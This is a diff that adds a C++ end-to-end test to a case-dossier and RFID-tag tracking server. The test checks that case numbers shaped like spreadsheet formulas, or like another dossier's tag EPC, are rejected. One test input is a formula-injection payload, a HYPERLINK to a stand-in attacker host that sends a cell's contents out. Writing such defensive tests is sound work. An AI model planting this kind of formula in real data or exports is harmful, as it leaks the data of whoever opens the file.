@@ -260,3 +260,50 @@ TEST_CASE("tags are bound, re-tagged and unbound with history, and an EPC is on 
         s.db.exec("INSERT INTO tag_bindings (epc, volume_id) SELECT 'E2801160000000000000A002', id FROM volumes "
                   "WHERE volume_no = 3 AND dossier_id = (SELECT id FROM dossiers WHERE case_number = '2026-TG-0001')"));
 }
+
+TEST_CASE("a case number is refused when a spreadsheet would run it, or when it would shadow a tag",
+          "[dossier][e2e][security]") {
+    ServerProcess s;
+    // The attacks: a case number that is a formula in every export, and one that is another dossier's
+    // EPC, so that looking that tag up would answer with the new dossier (a case number wins).
+    const std::map<std::string, std::string> refused = {
+        {"=HYPERLINK(\"http://e.vil/?\"&A1,\"open\")",
+         "case_number: \"=HYPERLINK(\"http://e.vil/?\"&A1,\"open\")\" must begin with a letter, a digit or an "
+         "opening bracket (a spreadsheet would run it as a formula)"},
+        {"@SUM(A1)",
+         "case_number: \"@SUM(A1)\" must begin with a letter, a digit or an opening bracket (a "
+         "spreadsheet would run it as a formula)"},
+        {"2026+1",
+         "case_number: \"2026+1\" has a character a case number may not have at position 5 (letters, "
+         "digits, spaces and - _ / . ( ) [ ] （ ） 〔 〕 only)"},
+        {"E28011600000000000000007",
+         "case_number: \"E28011600000000000000007\" reads as an EPC (hex digits in groups of four): it would hide "
+         "that tag's dossier"},
+        {"e28011600000000000000007",
+         "case_number: \"e28011600000000000000007\" reads as an EPC (hex digits in groups of four): it would hide "
+         "that tag's dossier"}};
+    for (const auto& [case_number, message] : refused) {
+        INFO(case_number);
+        const auto r = s.post(kApi + "/dossiers", new_dossier(case_number));
+        CHECK(r.status == 400);
+        CHECK(error_message(r) == message);
+    }
+    CHECK(s.db.query_value("SELECT count(*) FROM dossiers WHERE case_number !~ '^2026-CR-'") == "0");
+    // The tag still finds its own dossier, and says that it matched as a tag.
+    auto r = s.get(kApi + "/dossiers/E28011600000000000000007/location");
+    CHECK(r.body["dossier"]["case_number"] == "2026-CR-0007");
+    CHECK(r.body["matched_by"] == "epc");
+    // Case numbers as Chinese offices write them are fine.
+    for (const std::string ok : {"京公刑字[2026]第12号", "（2026）京0105刑初123号", "京公（刑）字〔2026〕12号"}) {
+        INFO(ok);
+        CHECK(s.post(kApi + "/dossiers", new_dossier(ok)).status == 201);
+    }
+    // A dossier registered before the alphabet stays readable and changeable (there is no CHECK on old rows).
+    s.db.exec(
+        "INSERT INTO dossiers (case_number, title, owning_unit_id) SELECT 'ABCD', 'legacy', id FROM units "
+        "WHERE code = 'CID-T1'");
+    r = s.get(kApi + "/dossiers/ABCD");
+    REQUIRE(r.status == 200);
+    CHECK(r.body["dossier"]["title"] == "legacy");
+    CHECK(s.post(kApi + "/dossiers/ABCD/transitions", {{"to", "in_handling"}, {"by", "liu.yang"}}).status == 200);
+}
